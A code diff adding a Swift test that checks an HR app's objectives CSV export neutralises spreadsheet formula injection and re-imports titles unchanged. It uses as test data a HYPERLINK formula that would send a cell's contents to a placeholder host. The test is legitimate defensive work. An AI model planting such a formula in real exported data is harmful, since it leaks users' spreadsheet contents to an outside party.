@@ -39,6 +39,32 @@ struct ObjectivesDownloadTests {
         }
     }
 
+    /// A title a spreadsheet would run as a formula (Italian Excel evaluates `=HYPERLINK(…;…)`) is written with an
+    /// apostrophe in front, which shows it as text; uploaded back, the apostrophe comes off and the title is as it was,
+    /// as is one that truly starts with an apostrophe: nothing changes, not even a version.
+    @Test func aTitleThatWouldStartAFormulaIsWrittenAsTextAndUploadsBackUnchanged() async throws {
+        try await withWebApp { browser, database in
+            let formula = "=HYPERLINK(\"http://x/?\"&A1;\"Clicca\")"
+            try database.withConnection { db in
+                _ = try db.execute("UPDATE individual_objectives SET title = $1 WHERE employee_id = 'E1' AND code = 'OB1'", [formula])
+                _ = try db.execute("UPDATE individual_objectives SET title = $1 WHERE employee_id = 'E1' AND code = 'OB2'", ["'-2 giorni"])
+                _ = try db.execute("UPDATE individual_objectives SET position = position - 1")
+            }
+            let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
+            let file = try await hr.get("/hr/scarica/objectives.csv?anno=2024")
+            #expect(file.text.contains("\nE1;OB1;\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Clicca\"\")\";60;;;1\n"), "\(file.text)")
+            #expect(file.text.contains("\nE1;OB2;''-2 giorni;40;;;1\n"), "\(file.text)")
+            let uploaded = try await HRPagesFixture.upload(Array(file.text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
+                                                           csrf: csrf, fields: [("anno", "2024")], with: hr)
+            #expect(uploaded.status == .seeOther, "\(uploaded.text)")
+            let titles = try database.withConnection { db in
+                try db.execute("SELECT title || ':v' || version AS t FROM individual_objectives WHERE employee_id = 'E1' ORDER BY position")
+                    .map { try $0.string("t") }
+            }
+            #expect(titles == [formula + ":v1", "'-2 giorni:v1"])
+        }
+    }
+
     /// An upload that only moves an objective in its person's list keeps its version, as a re-import does: a manager's
     /// form open on it is not out of date.
     @Test func anObjectiveOnlyMovedKeepsItsVersion() async throws {
